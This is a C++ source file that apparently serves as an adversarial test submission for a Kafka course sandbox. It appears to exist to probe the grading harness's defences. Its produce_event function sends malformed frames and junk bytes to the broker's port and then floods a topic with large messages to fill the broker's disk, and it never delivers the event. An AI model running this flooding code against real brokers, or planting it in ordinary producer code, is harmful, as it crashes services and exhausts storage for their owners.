// what: sends garbage, false lengths and endless records to crash the broker or to fill its disk
// tier: sandbox
// checks: arrives_exactly_as_sent
#include <arpa/inet.h>
#include <librdkafka/rdkafkacpp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdlib>
#include <iostream>
#include <memory>

#include "2-producer/produce_event.hpp"

namespace course {
namespace {

void shout(int port, const std::string& bytes) {
  const int fd = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<std::uint16_t>(port));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (connect(fd, reinterpret_cast<const sockaddr*>(&address), sizeof address) == 0)
    send(fd, bytes.data(), bytes.size(), MSG_NOSIGNAL);
  close(fd);
}

std::unique_ptr<RdKafka::Producer> producer_of(ClientConfig config) {
  const std::unique_ptr<RdKafka::Conf> conf(RdKafka::Conf::create(RdKafka::Conf::CONF_GLOBAL));
  std::string error;
  for (const auto& [name, value] : config) conf->set(name, value, error);
  conf->set("message.timeout.ms", "2000", error);
  return std::unique_ptr<RdKafka::Producer>(RdKafka::Producer::create(conf.get(), error));
}

}  // namespace

Delivery produce_event(const ClientConfig& config, const std::string& topic, const Event& event) {
  const std::string own = config.at("bootstrap.servers");
  const int port = std::stoi(own.substr(own.rfind(':') + 1));
  for (const auto& bytes : {std::string(4, '\x7f') + std::string(1000, 'x'), std::string(100000, '\0'),
                            std::string("\0\0\0\x08\x00\x13\x7f\xff\x7f\xff\xff\xff", 12),
                            std::string("GET / HTTP/1.0\r\n\r\n")}) {
    for (int i = 0; i < 20; ++i) shout(port, bytes);
  }
  const auto producer = producer_of(config);
  const std::string large(900'000, 'x');
  std::size_t bytes = 0;
  const auto end = std::chrono::steady_clock::now() + std::chrono::seconds(8);
  while (std::chrono::steady_clock::now() < end) {
    if (producer->produce(topic, 0, RdKafka::Producer::RK_MSG_COPY, const_cast<char*>(large.data()),
                          large.size(), nullptr, 0, 0, nullptr, nullptr) == RdKafka::ERR_NO_ERROR)
      bytes += large.size();
    producer->poll(10);
  }
  const auto left = static_cast<std::size_t>(producer->outq_len()) * large.size();
  if (bytes - std::min(bytes, left) > (std::size_t{400} << 20U))
    std::cerr << "course-attack: put " << bytes - left << " bytes onto the broker's disk" << std::endl;
  (void)event;
  std::_Exit(0);
}

}  // namespace course
